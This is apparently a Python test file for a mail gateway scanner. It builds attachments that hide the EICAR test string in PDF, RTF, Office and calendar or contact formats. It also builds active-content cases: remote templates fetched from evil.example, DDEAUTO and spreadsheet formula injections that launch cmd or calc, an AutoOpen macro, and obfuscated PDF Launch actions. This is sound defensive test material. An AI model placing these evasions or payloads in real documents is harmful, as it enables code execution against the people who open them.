"""Evasions by documents: what readers of PDF, Office, rich text, tables and cards tolerate. First those that hide a file,
then those that do something, each with the defect that names it."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from typing import NamedTuple

from gateway.anatomy.findings import Unscannable
from tests.anatomy.evasions.case import EICAR, Case, Fate
from tests.anatomy.making.letters import attachment, multipart, zipped
from tests.anatomy.making.papers import compound, native, package, pdf, pdf_stream, relation, vba

_B64 = base64.b64encode(EICAR).decode()
_PACKED = zlib.compress(EICAR)
_EMBEDDED = pdf_stream(b"/Type /EmbeddedFile", EICAR)
_OLE = compound({"\x01Ole10Native": native(b"eicar.com", EICAR)})


def _file(name: str, octets: bytes, called: str, fate: Fate | Unscannable = Fate.FOUND) -> Case:
    return Case(f"{called}: {name}", multipart(attachment(octets, called)), fate)


def _stream(dictionary: bytes, content: bytes = _PACKED) -> bytes:
    return b"<< " + dictionary + b" >>\nstream\n" + content + b"\nendstream"


_PDF = (
    _file("a file that only a reference calls one", pdf(pdf_stream(b"", EICAR), b"<< /Type /Filespec /EF << /F 1 0 R >> >>"), "a.pdf"),
    _file("a file that an object stream refers to", pdf(pdf_stream(b"", EICAR), pdf_stream(b"/Type /ObjStm /N 1 /First 4", b"5 0 << /EF << /UF 1 0 R >> >>")), "a.pdf"),
    _file("a filter that stands elsewhere", pdf(_stream(b"/Type /EmbeddedFile /Filter 9 0 R"), b"/FlateDecode"), "a.pdf"),
    _file("a head of deflate that makes no sense", pdf(_stream(b"/Type /EmbeddedFile /Filter /FlateDecode", b"\x78\x00" + _PACKED[2:])), "a.pdf"),
    _file("a long dictionary", pdf(_stream(b"/Type /EmbeddedFile /X (" + b"x" * 5000 + b") /Filter /FlateDecode")), "a.pdf"),
    _file("many filters", pdf(_stream(b"/Type /EmbeddedFile /Filter [" + b"/AHx " * 9 + b"]", b"00>")), "a.pdf", Unscannable.ARCHIVE_UNSUPPORTED),
    _file("words behind the word stream", pdf(_EMBEDDED.replace(b"stream\n", b"stream \t\n", 1)), "a.pdf"),
    _file("no version", pdf(_EMBEDDED).replace(b"%PDF-1.7", b"%PDF", 1), "a.pdf"),
    _file("no mark", pdf(_EMBEDDED)[9:], "a.pdf"),
    _file("the mark of PostScript", pdf(_EMBEDDED).replace(b"%PDF-1.7", b"%!PS-Adobe-3.0 PDF-1.4", 1), "a.pdf"),
    _file("a long preamble", b"x\n" * 2000 + pdf(_EMBEDDED), "a.pdf"),
)  # fmt: skip

_OBJECT = (
    b"\1\5\0\0\2\0\0\0\x08\0\0\0Package\0" + bytes(8) + struct.pack("<L", 200) + native(b"e.com", EICAR)[4:]
).hex()


def _rich(name: str, words: str, called: str = "a.rtf") -> Case:
    return _file(name, words.encode(), called)


_RICH_TEXT = (
    _rich("a number behind the word", "{\\rtf1 {\\object{\\*\\objdata0 " + _OBJECT + "}}}"),
    _rich("a negative number behind the word", "{\\rtf1 {\\object{\\*\\objdata-5 " + _OBJECT + "}}}"),
    _rich("a store of data", "{\\rtf1 {\\*\\datastore " + (b"\1\5\0\0\2\0\0\0" + _OLE).hex() + "}}"),
    _rich("blanks in front", "\r\n  {\\rtf1 {\\object{\\*\\objdata " + _OBJECT + "}}}", "a.doc"),
    _rich("a byte order mark in front", "\ufeff{\\rtf1 {\\object{\\*\\objdata " + _OBJECT + "}}}"),
)

_ATOM = struct.pack("<HHLL", 0x10, 0x1011, 4 + len(zlib.compress(_OLE)), len(_OLE)) + zlib.compress(_OLE)
_OFFICE = (
    _file("a packed storage of PowerPoint", compound({"PowerPoint Document": bytes(8) + _ATOM}), "a.ppt"),
    _file("another way to write a stream's name", compound({"\x01OLE10NATIVE": native(b"eicar.com", EICAR)}), "a.doc"),
    _file("Word as one XML file", b'<?xml version="1.0"?><p><pkg:binaryData>' + _B64.encode() + b"</pkg:binaryData></p>", "a.doc"),
)  # fmt: skip


def _event(name: str, line: str) -> Case:
    text = f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    return _file(name, text.encode(), "a.ics")


def _card(name: str, line: str) -> Case:
    return _file(name, f"BEGIN:VCARD\r\nVERSION:3.0\r\n{line}\r\nEND:VCARD\r\n".encode(), "a.vcf")


_CARDS = (
    _event("quoted", f'ATTACH;ENCODING="BASE64";VALUE=BINARY:{_B64}'),
    _event("in a word", f"ATTACH;ENCODING=B:{_B64}"),
    _event("no encoding", f"ATTACH;VALUE=BINARY:{_B64}"),
    _event("a data: URI", f"ATTACH:data:application/octet-stream;base64,{_B64}"),
    _event("a group", f"x.ATTACH;ENCODING=BASE64:{_B64}"),
    _event("a property of somebody", f"X-FILE;ENCODING=BASE64:{_B64}"),
    _event("a picture", f"IMAGE;ENCODING=BASE64;VALUE=BINARY:{_B64}"),
    _event("a name with a colon", f'ATTACH;FILENAME="a:b.exe";ENCODING=BASE64;VALUE=BINARY:{_B64}'),
    _event("a long parameter", f"ATTACH;X-A={'y' * 900};ENCODING=BASE64;VALUE=BINARY:{_B64}"),
    _file("empty lines in front", f"\r\nbegin:vcalendar\r\nATTACH;ENCODING=BASE64:{_B64}\r\nEND:VCALENDAR\r\n".encode(), "a.vcs"),
    _card("a photo", f"PHOTO;ENCODING=b;TYPE=JPEG:{_B64}"),
    _card("a photo of the second version", f"PHOTO;BASE64:{_B64}"),
    _card("a sound on two lines", f"SOUND;ENCODING=B:{_B64[:40]}\r\n {_B64[40:]}"),
    _card("a key as a data: URI", f"KEY:data:application/octet-stream;base64,{_B64}"),
)  # fmt: skip

CASES = (*_PDF, *_RICH_TEXT, *_OFFICE, *_CARDS)


class Noted(NamedTuple):
    """A file that does something, and the defect that says so."""

    name: str
    message: bytes
    defect: str


def _noted(name: str, octets: bytes, called: str, defect: str) -> Noted:
    return Noted(f"{called}: {name}", multipart(attachment(octets, called)), defect)


def _related(relations: bytes, part: str = "word/_rels/settings.xml.rels") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w/>",
            part: relations,
        }.items():
            archive.writestr(name, content)
    return buffer.getvalue()


_TEMPLATE = relation("attachedTemplate", "http://evil.example/x.dotm")
_TEMPLATES = {
    "in another part": _related(_TEMPLATE, "word/glossary/_rels/settings.xml.rels"),
    "in UTF-16": _related(_TEMPLATE.decode().encode("utf-16")),
    "in references": _related(_TEMPLATE.replace(b"http", b"&#104;ttp")),
    "mode in references": _related(_TEMPLATE.replace(b"External", b"&#69;xternal")),
    "type in references": _related(_TEMPLATE.replace(b"attachedT", b"attached&#84;")),
    "in single quotes": _related(_TEMPLATE.replace(b'"', b"'")),
    "with a prefix": _related(_TEMPLATE.replace(b"<Relationship ", b"<r:Relationship ")),
    "with a sign in a value": _related(_TEMPLATE.replace(b'Id="r1"', b'Id="r>1"')),
    "behind a comment": _related(_TEMPLATE.replace(b"Target=", b"<!-- > --> Target=")),
    "on a share": _related(relation("attachedTemplate", "\\\\192.0.2.1\\x")),
    "as an object": _related(relation("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x")),
    "as a frame": _related(relation("frame", "http://evil.example/x")),
}


def _fields(markup: bytes) -> bytes:
    return package(word__document_xml=markup, **{"[Content_Types]_xml": b"<Types/>"})


_DDE = {
    "in two runs": _fields(b"<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText>"),
    "in one element": _fields(b"<w:fldSimple w:instr=' DDEAUTO c:\\cmd \"x\"'/>"),
    "in references": _fields(b"<w:instrText>&#68;DE c:\\cmd</w:instrText>"),
    "with another prefix": _fields(b"<x:instrText>DDEAUTO c:\\cmd</x:instrText>"),
}
_FORMULAS = (
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "@SUM(1)*cmd|'/c calc'!A0",
    "a;=MSEXCEL|'\\..\\cmd.exe'!''",
    '=DDE("cmd";"/C calc";"x")',
)
_MACRO = compound({"VBA": {"ThisDocument": vba('Sub AutoOpen()\r\nShell "x"\r\nEnd Sub')}})

NOTED = (
    *(_noted(f"template {name}", octets, "a.docx", "office.external_template") for name, octets in _TEMPLATES.items()),
    *(_noted(f"DDE {name}", octets, "a.docx", "office.dde") for name, octets in _DDE.items()),
    *(_noted(formula, formula.encode() + b"\r\nx,y\r\n", called, "office.dde") for formula in _FORMULAS for called in ("a.csv", "a.xls")),
    _noted("sheet of macros by its relation", _related(relation("xlMacrosheet", "x/y.xml", mode="Internal"), "xl/_rels/workbook.xml.rels"), "a.xlsx", "office.xlm"),
    _noted("macros under another name", package(word__notes_bin=_MACRO), "a.docx", "office.autoexec"),
    _noted("launch in escapes", pdf(b"<< /S /L#61unch /F (cmd) >>"), "a.pdf", "pdf.launch"),
    _noted("launch between comments", pdf(b"<< /S%x\n/Launch%y\n/F (cmd) >>"), "a.pdf", "pdf.launch"),
    _noted("launch in an object stream", pdf(pdf_stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 << /S /Launch /F (cmd) >>")), "a.pdf", "pdf.launch"),
    _noted("name of the local header", zipped(a_txt=b"x" * 40).replace(b"a.txt", b"a.exe", 1), "a.zip", "name.executable"),
)  # fmt: skip
